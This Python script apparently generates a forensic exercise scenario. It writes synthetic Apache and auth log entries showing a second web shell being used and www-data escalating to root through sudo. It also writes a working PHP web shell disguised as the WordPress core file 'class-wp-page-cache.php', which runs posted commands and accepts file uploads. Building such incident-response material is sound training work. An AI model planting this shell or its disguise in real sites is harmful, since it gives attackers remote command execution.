"""The report's part of the modern-WordPress story (golden scenario 2): a second,
timestomped shell planted through the first (its mtime set back to the WordPress core
files' with touch -r) and driven from the same address, and www-data using the sudo rule
the sys generator planted to run a root shell. The other pieces of the story (UID-0
account, SSH keys, systemd units, crontab) come from gen_sys.py and gen_web.py; this
generator appends to their logs only lines that are not there yet, and is named to sort
last so it runs after them."""

from __future__ import annotations

from pathlib import Path

UA = "python-requests/2.31.0"
SHELL2 = "/var/www/html/wp-includes/class-wp-page-cache.php"

SHELL1_URL = "/wp-content/uploads/2024/03/thumb.php"
SHELL2_URL = "/wp-includes/class-wp-page-cache.php"
ACCESS = [
    f'203.0.113.66 - - [02/Mar/2024:03:17:31 +0000] "POST {SHELL1_URL} HTTP/1.1" 200 61 "-" "{UA}"',
    f'203.0.113.66 - - [02/Mar/2024:03:17:58 +0000] "POST {SHELL2_URL} HTTP/1.1" 200 1204 "-" "{UA}"',
    f'203.0.113.66 - - [02/Mar/2024:03:18:40 +0000] "POST {SHELL2_URL} HTTP/1.1" 200 88 "-" "{UA}"',
    f'203.0.113.66 - - [02/Mar/2024:03:21:02 +0000] "POST {SHELL2_URL} HTTP/1.1" 200 12 "-" "{UA}"',
    '198.51.100.23 - - [03/Mar/2024:08:30:00 +0000] "GET /?p=12 HTTP/1.1" 200 7021 "https://www.example.com/" '
    '"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36"',
]
AUTH = [
    "Mar  2 03:18:41 web01 sudo: www-data : TTY=unknown ; PWD=/var/www/html/wp-includes ; USER=root ; "
    "COMMAND=/bin/sh -c id",
    "Mar  2 03:18:41 web01 sudo: pam_unix(sudo:session): session opened for user root(uid=0) by (uid=33)",
]

SHELL2_CODE = """<?php
/**
 * Page cache helper.
 * @package WordPress
 */
if (isset($_POST['k']) && md5($_POST['k']) === '5ebe2294ecd0e0f08eab7690d2a6ee69') {
    $c = $_POST['c'];
    echo '<pre>' . shell_exec($c) . '</pre>';
    if (!empty($_FILES['f'])) { move_uploaded_file($_FILES['f']['tmp_name'], $_POST['d']); }
}
"""


def _append(path: Path, lines: list[str]) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    have = path.read_text().splitlines() if path.exists() else []
    new = [line for line in lines if line not in have]
    with path.open("a") as fh:
        if have and not path.read_text().endswith("\n"):
            fh.write("\n")
        fh.writelines(line + "\n" for line in new)


def generate(root: Path) -> None:
    (root / SHELL2.lstrip("/")).write_text(SHELL2_CODE)
    _append(root / "var/log/apache2/access.log", ACCESS)
    _append(root / "var/log/auth.log", AUTH)
